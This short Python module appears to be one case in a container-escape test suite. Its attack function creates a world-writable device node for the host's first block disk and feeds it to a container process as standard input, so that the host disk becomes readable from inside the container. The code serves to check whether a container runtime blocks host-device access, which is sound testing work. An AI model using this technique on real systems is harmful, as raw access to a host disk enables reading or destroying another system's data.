"""The program's standard input is a disk of the host, by a descriptor that its caller was careless with."""

import os

from bypass import refused

SOURCE = "idea: no device of the host is ever given to a container"
WAY = "create"
STOPPED = refused("stream")


def attack(t):
    device = t.host + "/disk"
    os.mknod(device, 0o60666, os.makedev(*(int(n) for n in t.read("/sys/class/block/%s/dev" % sorted(os.listdir("/sys/class/block"))[0]).split(":"))))
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    t.around = ["sh", "-c", 'exec "$@" <"$0"', device]
    t.run("true")
    return "owned by %d" % os.stat(device).st_uid if os.stat(device).st_uid else ""
